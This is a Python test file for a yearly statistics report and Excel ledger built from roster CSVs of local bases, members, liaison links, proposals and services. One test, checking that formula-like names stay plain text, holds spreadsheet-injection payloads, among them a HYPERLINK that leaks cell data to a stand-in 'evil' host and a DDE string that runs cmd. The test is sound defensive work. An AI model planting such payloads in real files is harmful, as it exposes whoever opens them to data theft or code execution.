"""The yearly report on the sample, on both stores: every figure equals a count made here
straight from the roster files, and the ledger workbook reads back table by table."""

from __future__ import annotations

import csv
import io
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import openpyxl
import pytest
from fastapi.testclient import TestClient

from api.access import Role, Tokens
from api.app import create_app
from graph.settings import Settings
from graph.values import clean_date
from ingest.pipeline import ingest
from queries.report import ledger, report
from tests.conftest import SAMPLE_DIR

AS_OF, YEAR = "2025-12-31", 2025


def rows(name: str) -> list[dict]:
    with open(SAMPLE_DIR / f"{name}.csv", encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def active(row: dict) -> bool:
    since = clean_date(row["开始日期"]) if row["开始日期"] else ""
    until = clean_date(row["结束日期"]) if row["结束日期"] else "9999"
    return since <= AS_OF <= until


@pytest.fixture
def answer(store):
    assert ingest(store, [SAMPLE_DIR]).ok
    return {t["title"]: t for t in report(store, as_of=AS_OF, year=YEAR)["tables"]}


def as_dict(table, value_column=1) -> dict:
    return {row[0]: row[value_column] for row in table["rows"] if row[value_column]}


def test_bases_by_level_category_and_town(answer):
    bases = rows("基地")
    assert as_dict(answer["同心荟按级别"]) == Counter(b["级别"] for b in bases)
    assert as_dict(answer["同心荟按类别"]) == Counter(b["类别"] for b in bases)
    towns = {t["名称"] for t in rows("镇街") if t["上级"]}
    by_town = {row[0]: row[1] for row in answer["镇街覆盖（区、镇街两级全覆盖）"]["rows"]}
    assert set(by_town) == towns
    assert by_town == {t: sum(b["所属镇街"] == t for b in bases) for t in towns}


def test_members_strata_towns_and_political_arrangements(answer):
    members = [p for p in rows("人员") if "新阶层人士" in p["人员类别"]]
    assert as_dict(answer["新的社会阶层人士按类别"]) == Counter(m["新阶层类别"] for m in members if m["新阶层类别"])
    assert as_dict(answer["新的社会阶层人士按镇街"]) == Counter(m["所属镇街"] for m in members if m["所属镇街"])
    assert sum(as_dict(answer["新的社会阶层人士按行业"]).values()) == len(members)
    seats = Counter(s for m in members if m["代表人士"] == "是" for s in m["政治安排"].split("、") if s)
    assert {f"{level}{body}": n for level, body, n in answer["代表人士的政治安排"]["rows"]} == seats


def test_activities_participants_and_enterprises_per_base(answer):
    names = {b["编号"]: b["名称"] for b in rows("基地")}
    activities = {a["编号"]: a for a in rows("活动")}
    joined = Counter(r["终点"] for r in rows("关系") if r["关系"] == "参加")
    this = [a for a in activities.values() if clean_date(a["日期"]).startswith(str(YEAR))]
    last = [a for a in activities.values() if clean_date(a["日期"]).startswith(str(YEAR - 1))]
    expected = {
        names[b]: [
            sum(a["举办基地"] == b for a in this),
            sum(joined[a["编号"]] for a in this if a["举办基地"] == b),
            sum(a["举办基地"] == b for a in last),
            sum(joined[a["编号"]] for a in last if a["举办基地"] == b),
        ]
        for b in names
    }
    assert {row[0]: row[1:] for row in answer[f"{YEAR} 年各同心荟的活动"]["rows"]} == expected
    assert {row[0]: row[1] for row in answer[f"{YEAR} 年活动按类型"]["rows"] if row[1]} == Counter(
        a["类型"] for a in this
    )
    settled = Counter(names[r["终点"]] for r in rows("关系") if r["关系"] == "入驻" and active(r))
    assert as_dict(answer["入驻企业"]) == settled


def test_the_liaison_system(answer):
    reps = {p["编号"] for p in rows("人员") if p["代表人士"] == "是"}
    covered = {r["终点"] for r in rows("关系") if r["关系"] == "列名联系" and r["终点"] in reps and active(r)}
    figures = {row[0]: row[1] for row in answer["列名联系制度"]["rows"]}
    assert (figures["代表人士"], figures["已列名联系"]) == (len(reps), len(covered))
    assert figures["覆盖率"] == round(len(covered) / len(reps), 4)
    listed = {(r["起点"], r["终点"]) for r in rows("关系") if r["关系"] == "列名联系" and active(r)}
    names = {p["编号"]: p["姓名"] for p in rows("人员")}
    loads = [row[1] for row in answer["联系领导的工作量"]["rows"]]
    assert loads == sorted(loads, reverse=True)
    assert {row[0]: row[1] for row in answer["联系领导的工作量"]["rows"] if row[1]} == Counter(
        names[a] for a, _ in listed
    )
    town = {p["编号"]: p["所属镇街"] or "未填镇街" for p in rows("人员")}
    assert {row[0]: row[1:3] for row in answer["列名联系覆盖按镇街"]["rows"]} == {
        t: [sum(town[r] == t for r in reps), sum(town[r] == t for r in covered)] for t in {town[r] for r in reps}
    }
    methods = Counter((clean_date(c["日期"])[:4], c["方式"]) for c in rows("联系记录"))
    assert {row[0]: row[1:] for row in answer[f"{YEAR} 年联系记录按方式"]["rows"]} == {
        m: [methods[str(YEAR), m], methods[str(YEAR - 1), m]] for m in ("慰问", "走访", "电话", "活动", "座谈")
    }


def test_the_ledger_reads_back_table_by_table(store, answer):
    book = openpyxl.load_workbook(io.BytesIO(ledger(report(store, as_of=AS_OF, year=YEAR))))
    assert len(book.sheetnames) == len(answer)
    for sheet, table in zip(book.worksheets, answer.values()):
        values = [list(r) for r in sheet.iter_rows(values_only=True)]
        assert table["title"] in values[0][0] and values[1][0] == f"口径：{table['basis']}"
        assert values[2] == table["columns"]
        assert [[v if v is not None else "" for v in r] for r in values[3:]] == [
            [v if v is not None else "" for v in r] for r in table["rows"]
        ]
        assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$3:$3"


@contextmanager
def report_api(store_spec: str, folder: Path, **options) -> Iterator[Callable]:
    """The API on the test's store; ``ask(role, **params)`` gets ``/api/report`` as that role."""
    tokens = {role: Tokens(folder).create(role)["token"] for role in Role}
    with TestClient(create_app(Settings(store=store_spec, config_dir=folder, **options))) as client:
        yield lambda role, **params: client.get(
            "/api/report", params=params, headers={"Authorization": f"Bearer {tokens[role]}"}
        )


def test_the_api_gives_every_role_the_same_report_without_personal_information(store, store_spec, tmp_path):
    assert ingest(store, [SAMPLE_DIR]).ok
    secrets = {p[k] for p in rows("人员") for k in ("手机", "身份证号") if p[k]}
    with report_api(store_spec, tmp_path) as ask:
        answers = [ask(role, as_of=AS_OF) for role in Role]
        workbook = ask(Role.viewer, as_of=AS_OF, format="xlsx")
    assert all(a.status_code == 200 for a in answers) and len({a.text for a in answers}) == 1
    assert not [s for s in secrets if s in answers[0].text]
    assert workbook.status_code == 200 and openpyxl.load_workbook(io.BytesIO(workbook.content)).sheetnames


def test_names_that_look_like_formulas_stay_text_in_every_workbook_we_write(store, tmp_path):
    import zipfile

    from graph.ontology import load
    from ingest.blank_workbook import blank_workbook
    from tests.conftest import write_csv

    assert ingest(store, [SAMPLE_DIR]).ok
    hostile = ['=HYPERLINK("http://evil/leak/"&A1,"点此")', "@SUM(1+1)*cmd|' /C calc'!A0", "+SUM(A1)", "-2+3"]
    rows = "".join(
        f"B9{i},{name.replace(chr(34), chr(34) * 2).join(chr(34) * 2)},孵化型,区级\n" for i, name in enumerate(hostile)
    )
    roster = write_csv(tmp_path, "基地.csv", "编号,名称,类别,级别\n" + rows)
    report_ = ingest(store, [roster])
    assert report_.written and report_.errors == []
    assert {w.row for w in report_.warnings if "公式" in w.message} == {2, 3, 4}  # "-2+3" is a number's look
    answer = report(store, as_of=AS_OF, year=YEAR)
    shown = {cell for table in answer["tables"] for row in table["rows"] for cell in row}
    assert set(hostile) <= shown, "the hostile names are in the ledger"
    for workbook in (ledger(answer), blank_workbook(load())):
        with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
            sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
    book = openpyxl.load_workbook(io.BytesIO(ledger(answer)))
    cells = {c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row}
    assert hostile[0] in cells  # the leading = kept visible


def test_seat_holders_and_proposals(answer):
    """参政议政 recounted from the roster files: who holds a seat, what was written, by whom."""
    seats = {
        p["编号"]: [x for x in p["政治安排"].split("、") if x.endswith(("人大代表", "政协委员"))] for p in rows("人员")
    }
    seats = {i: s for i, s in seats.items() if s}
    table = {row[0]: row[1:] for row in answer["参政议政：各级人大代表、政协委员"]["rows"]}
    assert table["合计"] == [
        sum(any(x.endswith("人大代表") for x in s) for s in seats.values()),
        sum(any(x.endswith("政协委员") for x in s) for s in seats.values()),
        len(seats),
    ]
    for level in ("省", "市", "区"):
        people = [s for s in seats.values() if any(x.startswith(level) for x in s)]
        assert table.get(level, [0, 0, 0])[-1] == len(people), level
    proposals = rows("提案建议")
    summary = {row[0]: row[1:] for row in answer["参政议政：提案建议概况"]["rows"]}
    for index, y in enumerate((str(YEAR), str(YEAR - 1))):
        written = [p for p in proposals if p["年度"] == y]
        authors = {a for p in written for a in p["撰写人"].split("、")}
        assert summary["提案建议等（件）"][index] == len(written)
        assert summary["撰写人（人）"][index] == len(authors)
        assert summary["其中人大代表、政协委员（人）"][index] == len(authors & set(seats))
        assert summary["多人联名（件）"][index] == sum("、" in p["撰写人"] for p in written)
        assert summary["已立案、采纳、办复、批示（件）"][index] == sum(p["办理情况"] != "提交" for p in written)
        assert summary["涉及同心荟、镇街或企业（件）"][index] == sum(bool(p["涉及"]) for p in written)
    for column in ("类别", "渠道", "办理情况"):
        table = answer[f"参政议政：提案建议按{column}"]
        for y, index in ((str(YEAR), 1), (str(YEAR - 1), 2)):
            counted = Counter(p[column] for p in proposals if p["年度"] == y)
            assert {row[0]: row[index] for row in table["rows"] if row[index]} == counted, (column, y)
    bases = {b["编号"]: b["名称"] for b in rows("基地")}
    about = {row[0]: row[2] for row in answer["参政议政：提案建议涉及的同心荟、镇街和企业"]["rows"] if row[2]}
    assert about == Counter(bases[p["涉及"]] for p in proposals if p["年度"] == str(YEAR) and p["涉及"])


def test_services_and_what_bases_report(answer):
    """The 三师's services and the bases' own figures, recounted from the roster files."""
    cases = rows("服务事项")
    for y, index in ((str(YEAR), 1), (str(YEAR - 1), 2)):
        held = [c for c in cases if clean_date(c["日期"])[:4] == y]
        figures = {row[0]: row[index] for row in answer["“三师”服务"]["rows"]}
        assert figures == {
            "服务事项": len(held),
            "已解决": sum(c["状态"] == "已解决" for c in held),
            "服务企业": len({c["求助方"] for c in held if c["求助方"].startswith("E")}),
            "承办专家": len({c["承办专家"] for c in held}),
            "价值（元）": sum(int(c["价值"] or 0) for c in held),
        }
    this = [c for c in cases if clean_date(c["日期"])[:4] == str(YEAR)]
    by_kind = {row[0]: row[1:4] for row in answer["“三师”服务按类别"]["rows"] if row[1]}
    assert by_kind == {
        k: [sum(c["类别"] == k for c in this), sum(c["类别"] == k and c["状态"] == "已解决" for c in this)]
        + [sum(c["类别"] == k and c["状态"] == "跟进中" for c in this)]
        for k in {c["类别"] for c in this}
    }
    awards = rows("荣誉奖项")
    table = {row[0]: row[1:] for row in answer["荣誉奖项"]["rows"]}
    for y, at in ((str(YEAR), 0), (str(YEAR - 1), 2)):
        given = [a for a in awards if a["年度"] == y]
        assert table["合计"][at : at + 2] == [len(given), len({w for a in given for w in a["获奖者"].split("、")})]
        for level in {a["级别"] for a in given}:
            assert table[level][at] == sum(a["级别"] == level for a in given)
    reported = [f for f in rows("基地数据") if f["期间"] == str(YEAR)]
    bases = {b["编号"]: b["名称"] for b in rows("基地")}
    table = answer[f"同心荟自报数据（{YEAR} 年）"]
    shown = {(row[0], row[1]): row for row in table["rows"]}
    assert {k: (row[2], row[4]) for k, row in shown.items()} == {
        (bases[f["同心荟"]], f["指标"]): (f["数值"], f["来源"]) for f in reported
    }
    # beside a reported 入驻企业数, the graph's own count of enterprises still settled at the year's end
    settled = Counter(r["终点"] for r in rows("关系") if r["关系"] == "入驻" and active(r))
    reported_settled = [f for f in reported if f["指标"] == "入驻企业数"]
    assert reported_settled
    for f in reported_settled:
        assert shown[bases[f["同心荟"]], "入驻企业数"][5] == settled[f["同心荟"]]
    assert all(row[5] is None for row in table["rows"] if row[1] in ("入驻团队数", "月均GMV"))


def test_the_sample_tells_the_seeds_own_figures(store):
    """The seed article's sentences, from the sample's 2024 report: 27 deputies and CPPCC members,
    50-odd proposals and reports, 60-odd consultations for 50-odd enterprises, 30-odd solved,
    the 17 bases with their categories and levels."""
    assert ingest(store, [SAMPLE_DIR]).ok
    tables = {t["key"]: t for t in report(store, as_of="2024-12-31", year=2024)["tables"]}
    assert tables["seat_holders"]["rows"][-1][0] == "合计" and tables["seat_holders"]["rows"][-1][-1] == 27
    voices = {row[0]: row[1] for row in tables["proposals"]["rows"]}
    services = {row[0]: row[1] for row in tables["services"]["rows"]}
    assert voices["提案建议等（件）"] >= 50
    assert services["服务事项"] >= 60 and services["已解决"] >= 30 and services["服务企业"] >= 50
    bases = tables["bases"]["rows"]
    assert len(bases) == 17 and all(row[1] != "（未填）" and row[2] != "（未填）" for row in bases)
    assert all(t["basis"] for t in tables.values())
